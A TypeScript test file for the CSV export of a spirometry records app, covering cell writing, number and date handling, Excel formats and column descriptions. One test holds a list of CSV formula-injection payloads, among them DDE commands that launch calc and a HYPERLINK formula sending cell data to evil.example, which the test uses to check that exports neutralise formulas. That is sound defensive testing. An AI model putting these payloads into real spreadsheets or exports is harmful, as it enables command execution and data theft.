import * as fc from 'fast-check'
import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { chosenColumns, exportColumns } from '#shared/exports/export-columns'
import { analysisCsv, columnsOfFormat, csvSeparators, excelCsv } from '#shared/exports/formats'
import { undated } from '#shared/records/day'
import { cellSources, type DayRows } from '../../../src-renderer/store/exports/cell-sources'
import {
  type CellColumn,
  constantCells,
  dictionaryCells,
  plainCells,
  writeRows,
} from '../../../src-renderer/store/exports/cell-bytes'
import { createByteOutput } from '../../../src-renderer/store/exports/writer'
import { someOf } from '../../whole'
import { aFilter } from '../a-filter'
import { answer, makeStore, openedStore, record, valueOf } from '../store/test-store'
import { csvRequest, exportWhole } from './export-whole'
import { mixedStore } from './mixed-store'
import { readCsv } from './read-csv'

const dayOf = (rows: readonly number[]): DayRows => ({
  day: undated,
  rows: Uint32Array.from(rows),
  patients: new Uint32Array(rows.length),
  queried: new Uint8Array(rows.length),
  marks: new Map(),
  byOthers: new Map(),
})

function written(columns: readonly CellColumn[], rows: readonly number[], separator = ','): string {
  const out = createByteOutput()
  const day = dayOf(rows)
  const cells = columns.map((column) => column(day))
  writeRows(cells, rows.length, { begin: '', between: separator, end: '\r\n' }, out)
  return new TextDecoder().decode(out.take())
}

const rowNumbers: Parameters<typeof dictionaryCells>[0] = ({ rows }, numbers) => numbers.set(rows)

test('rows of whatever cells are those cells, one day after the other', () => {
  const days = fc.array(fc.array(fc.nat(6)), { maxLength: 5 })
  const texts = fc.array(fc.string({ unit: 'grapheme' }), { minLength: 7, maxLength: 7 })
  fc.assert(
    fc.property(days, texts, fc.constantFrom(',', ';'), (all, cells, separator) => {
      const text = (row: number) => cells[row] ?? ''
      const same = constantCells(text(0))
      const known = dictionaryCells(rowNumbers, text)
      const fresh = plainCells(({ rows }, at) => text(6 - (rows[at] ?? 0)))
      for (const rows of all)
        expect(written([known, () => same, fresh], rows, separator)).toBe(
          rows.map((row) => `${[text(row), text(0), text(6 - row)].join(separator)}\r\n`).join(''),
        )
    }),
  )
})

test('cells that come again are made once, until there are too many', () => {
  const asked: number[] = []
  const long = 'é'.repeat(600_000)
  const text = (number: number) => `${number} ${number > 9 ? long : ''}`
  const column = dictionaryCells(rowNumbers, (number) => {
    asked.push(number)
    return text(number)
  })
  for (const rows of [[0, 7, 0], [7, 1000], [5000, 1000, 0, 20], [30, 40], [0, 1000], [0]])
    expect(written([column], rows)).toBe(rows.map((row) => `${text(row)}\r\n`).join(''))
  // five long ones are more than are remembered
  expect(asked).toEqual([0, 7, 1000, 5000, 20, 30, 40, 0, 1000])
})

const inMemory = Object.keys(cellSources).filter((name) => cellSources[name]?.memory)

test.each(
  someOf(
    [
      [',', '.'],
      [';', ','],
    ] as const,
    1,
  ),
)('rows out of memory are those of the pages, with %s and %s', async (separator, decimalMark) => {
  const store = await mixedStore()
  for (const withdrawn of ['without', 'only'] as const) {
    const what = { kind: 'filter', filter: aFilter({ withdrawn }) }
    const rows = async (more: string[]) => {
      const request = csvRequest({ separator, decimalMark, columns: [...inMemory, ...more] }, { what })
      return readCsv((await exportWhole(store, request)).text, separator)
    }
    const paged = await rows(['first_fetched_at'])
    const expected = paged.map(({ first_fetched_at: _, ...row }) => row)
    expect(await rows([])).toEqual(expected)
    expect(paged.length).toBeGreaterThan(withdrawn === 'only' ? 0 : 100)
    if (withdrawn === 'without')
      expect(new Set(paged.map((row) => row['bronchodilator']))).toEqual(new Set(['', 'pre', 'post']))
  }
})

test('the default columns need no page', () => {
  const others = chosenColumns(columnsOfFormat('parquet-sessions'), null).filter(
    ({ name }) => !inMemory.includes(name),
  )
  expect(others).toEqual([])
})

/** The rows of a store that holds some records. */
async function rowsOf(records: object[], request = csvRequest(), delimiter = ',') {
  const store = await openedStore()
  valueOf(await store.storeHandlers.applyAnswer(answer(records, null)))
  const { text } = await exportWhole(store, request)
  return { text, rows: readCsv(text, delimiter) }
}

// OWASP's list, with what gets round simpler guards
const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '+1+1',
  '-2+3+cmd|calc!A0',
  '@SUM(1+1)*cmd|calc!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '="a,b"&";"',
  '  =1+1',
  '\u00a0\u200b=1+1',
  '\u0001\u202e@SUM(1)',
  '﹦1+1',
  '﹢1',
  '﹣1',
  '﹫SUM(1)',
  '"=1+1"',
  'a;=1+1',
  'a,=1+1',
  'a\t=1+1',
  'a|=1+1',
  'a; \u0007"=1+1"',
  'a\n=1+1',
  'a\r\n;,|\t=1+1',
  'a","=1+1',
  'a\u2028+1',
]

test('texts begin no formula in any column, by whatever separator they are read', async () => {
  const sent = formulas.map((text) => {
    const said = { name: text, email: text, gender: text, ethnicity: text }
    return record(text, '2026-03-05T10:00:00Z', {
      ...said,
      diagnoses: [text, text],
      medications: [text],
    })
  })
  const columns = ['session_id', 'patient_name', 'email', 'sex', 'ethnicity', 'diagnoses', 'medications']
  for (const separator of csvSeparators) {
    const { text: file, rows } = await rowsOf(sent, csvRequest({ separator, columns }), separator)
    expect(rows).toHaveLength(formulas.length)
    for (const row of rows)
      for (const column of columns)
        expect(withoutApostrophes(row[column])).toContain(withoutApostrophes(row['session_id']))
    expect(rows.map((row) => withoutApostrophes(row['session_id'])).sort()).toEqual(
      formulas.map(withoutApostrophes).sort(),
    )
    for (const other of [...csvSeparators, '|']) expect(formulaCells(file, other), other).toEqual([])
  }
})

const withoutApostrophes = (text = '') => text.replaceAll("'", '')

/** The cells of a file that are or may become formulas, read by a separator, with quotes and without. */
function formulaCells(file: string, delimiter: string): string[] {
  const options = { delimiter, relax_quotes: true, relax_column_count: true }
  const read = (text: string): string[][] => parse(text, options)
  const quoted = [file, `${file}"`].flatMap((text) => {
    try {
      return read(text)
    } catch {
      // a quote that opens in this reading and never closes
      return []
    }
  })
  expect(quoted).not.toEqual([])
  const plain = file.split(/[\r\n\v\f\u0085\u2028\u2029]/).map((line) => line.split(delimiter))
  return [...quoted, ...plain]
    .flat()
    .filter((cell) => /^[\s\p{C}"]*[=+\-@＝＋－＠﹦﹢﹣﹫]/u.test(cell) && !isNumber(cell))
}

const isNumber = (cell: string) => /^-?[\d.,]+$/.test(cell)

test('a negative number stays a number', async () => {
  const best_test = { fev1_actual: -1.33, fvc_actual: 3 }
  const { rows } = await rowsOf([record('a', '2026-03-05T10:00:00Z', { spirometry_tests: { best_test } })])
  expect(rows[0]).toMatchObject({ fev1_actual: '-1.33', fvc_actual: '3' })
})

test('what is missing or unread is empty, and never zero; what was sent for it can be asked for', async () => {
  const best_test = { fev1_actual: 'n/a', fvc_actual: 0, pef_actual: '7,9', ratio_actual: null }
  const records = [record('a', '2026-03-05T10:00:00Z', { age: null, spirometry_tests: { best_test } })]
  const columns = [
    'age_y',
    'fev1_actual',
    'fev1_actual_raw',
    'fvc_actual',
    'pef_actual',
    'pef_actual_raw',
    'duration',
    'tests',
  ]
  const { rows } = await rowsOf(records, csvRequest({ columns }))
  expect(rows[0]).toEqual({
    age_y: '',
    fev1_actual: '',
    fev1_actual_raw: 'n/a',
    fvc_actual: '0',
    pef_actual: '7.9',
    pef_actual_raw: '7,9',
    duration: '',
    tests: '0',
  })
})

test.each([
  ['2026-03-05T23:30:00+14:00', '2026-03-05'],
  ['2026-03-05T00:30:00-11:00', '2026-03-05'],
  ['2026-10-25T02:30:00+02:00', '2026-10-25'],
  ['2026-10-25T02:30:00+01:00', '2026-10-25'],
  ['2026-03-29T03:00:00.250+02:00', '2026-03-29'],
  ['2026-03-05T10:00:00+05:45', '2026-03-05'],
  ['2026-03-05T10:00:00', '2026-03-05'],
])('%s is told with its own offset, and with its own day', async (time, day) => {
  const { rows } = await rowsOf([record('a', time)])
  expect(rows[0]).toMatchObject({ created_at: time, local_date: day })
})

test('a time that cannot be read is empty, and can be asked for as it was sent', async () => {
  const { rows } = await rowsOf(
    [record('a', 'last Monday')],
    csvRequest({ columns: ['created_at', 'local_date', 'created_at_raw', 'flags'] }),
  )
  expect(rows[0]).toEqual({
    created_at: '',
    local_date: '',
    created_at_raw: 'last Monday',
    flags: 'undated; unattributed',
  })
})

test('for Excel under a locale with a decimal comma: byte mark, semicolons, commas', async () => {
  const name = 'Łukasz 李雷 أحمد 👩🏽‍⚕️; "x"'
  const { text, rows } = await rowsOf(
    [record('a', '2026-03-05T10:00:00Z', { name })],
    csvRequest(excelCsv('de-DE')),
    ';',
  )
  expect(text.startsWith('\uFEFFpatient_name;age_y;sex;local_date;')).toBe(true)
  expect(rows[0]).toMatchObject({ patient_name: name, fev1_actual: '3,1', age_y: '41,5' })
})

test('for analysis: no byte mark, and each line ends as RFC 4180 says', async () => {
  const { text } = await rowsOf([record('a', '2026-03-05T10:00:00Z')], csvRequest(analysisCsv))
  expect(text).toMatch(/^session_id,/)
  expect(text.split('\r\n')).toHaveLength(3)
  expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/)
})

test('a row for each test says which is the best; a best test put together of several has a row of its own', async () => {
  const store = await openedStore()
  const [one, two] = [
    { fev1_actual: 3, fvc_actual: 4 },
    { fev1_actual: 2.9, fvc_actual: 4.2 },
  ]
  const composite = { fev1_actual: 3, fvc_actual: 4.2 }
  const records = [
    record('b', '2026-03-05T11:00:00Z', { spirometry_tests: { best_test: two, all_tests: [one, two] } }),
    record('a', '2026-03-05T10:00:00Z', {
      spirometry_tests: { best_test: composite, all_tests: [one, two] },
    }),
    record('none', '2026-03-05T09:00:00Z', { spirometry_tests: {} }),
  ]
  valueOf(await store.storeHandlers.applyAnswer(answer(records, null)))
  const columns = ['session_id', 'test_index', 'is_best', 'fev1_actual', 'fvc_actual', 'fev1_fvc_recomputed']
  const { text } = await exportWhole(store, { ...csvRequest({ columns }), form: 'csv-tests' })
  expect(readCsv(text).map((row) => Object.values(row).join(' '))).toEqual([
    'b 1 no 3 4 0.75',
    `b 2 yes 2.9 4.2 ${2.9 / 4.2}`,
    'a 1 no 3 4 0.75',
    `a 2 no 2.9 4.2 ${2.9 / 4.2}`,
    `a  yes 3 4.2 ${3 / 4.2}`,
  ])
})

test('the file beside it says what each of its columns means', async () => {
  const store = await openedStore()
  const { companions } = await exportWhole(store, csvRequest({ columns: ['fev1_actual', 'local_date'] }))
  const [{ ending, text } = { ending: '', text: '' }] = companions
  expect(ending).toBe('-columns.csv')
  expect(readCsv(text)).toMatchObject([
    { column: 'fev1_actual', kind: 'number', unit: 'volume_unit' },
    { column: 'local_date', kind: 'day' },
  ])
  expect(readCsv(text).every(({ meaning }) => meaning !== '')).toBe(true)
})

test('it says so in the language of the app, and of sample data that their people are invented', async () => {
  const store = makeStore()
  valueOf(await store.storeHandlers.open({ connection: 'c1', dataKey: new Uint8Array(32), sample: true }))
  const request = csvRequest({ columns: ['fvc_predicted'] })
  const { companions, text } = await exportWhole(store, request, undefined, 'es-MX')
  const meanings = readCsv(companions[0]?.text ?? '').map(({ column, meaning }) => [column, meaning])
  expect(meanings).toEqual([
    ['fvc_predicted', expect.stringMatching(/^FVC teórico, según se envió/)],
    ['', 'Datos de ejemplo: las personas son ficticias.'],
  ])
  // the rows themselves are those of any other data
  expect(text).toBe('fvc_predicted\r\n')
})

test.each(['sessions', 'tests'] as const)(
  'a table of %s has a way to read each of its columns, and no name twice',
  (form) => {
    const names = exportColumns[form].map(({ name }) => name)
    expect(names.filter((name) => !(name in cellSources))).toEqual([])
    expect(new Set(names).size).toBe(names.length)
    expect(chosenColumns(exportColumns[form], ['flags', 'session_id']).map(({ name }) => name)).toEqual([
      'flags',
      'session_id',
    ])
  },
)
